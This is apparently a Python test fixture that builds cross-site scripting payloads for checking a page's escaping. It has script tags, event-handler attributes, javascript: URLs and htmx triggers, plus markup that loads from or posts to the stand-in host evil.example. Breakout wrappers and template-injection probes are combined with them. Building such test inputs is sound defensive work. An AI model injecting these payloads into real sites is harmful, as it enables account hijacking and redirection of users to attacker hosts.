"""Texts that would run as code if a page did not escape them."""

from itertools import product

RUN = "window.ran.push(1)"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"<math><maction xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<div hx-get=/sign-out hx-trigger=load hx-on:load='{RUN}'>x</div>",
    f"<button hx-post=/raids/begin hx-trigger='load' data-hx-on='{RUN}'>x</button>",
    f"<div hx-vals='js:{{x: {RUN}}}' hx-get=/now hx-trigger='every 1s'>x</div>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; *{display:none}</style>",
    "<img src=//evil.example/x.png>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example/><button>Allow</button></form>",
    "<object data=//evil.example/x.swf></object>",
    "<embed src=//evil.example/x>",
    "<template hx type=partial hx-target=body><b>x</b></template>",
    "<!--<img src='--><img src=x onerror=" + RUN + "//'>",
    "<noscript><p title='</noscript><img src=x onerror=" + RUN + ">'></noscript>",
)
AROUND = (
    "{}",
    '">{}',
    "'>{}",
    "</pre></bdi>{}",
    "</title></textarea></select>{}",
    "</script>{}",
    "-->{}<!--",
    "]]>{}",
    "\u202e{}",
    "\u2066{}\u2069",
    "x\x00{}",
    "<b>{}</b>",
    "\ud83d\ude00{}".encode("utf-16", "surrogatepass").decode("utf-16"),
    " {}\n\t",
    "&lt;{}&gt;",
    "%3C{}%3E",
    "\\u003c{}\\u003e",
    "{{{{7*7}}}}{}{{% raise %}}",
    "${{7*7}}{}",
    "#{{7*7}}{}",
)
TEXTS = tuple(around.format(script) for script, around in product(SCRIPTS, AROUND))
FEW = tuple(f'">{script}' for script in SCRIPTS)
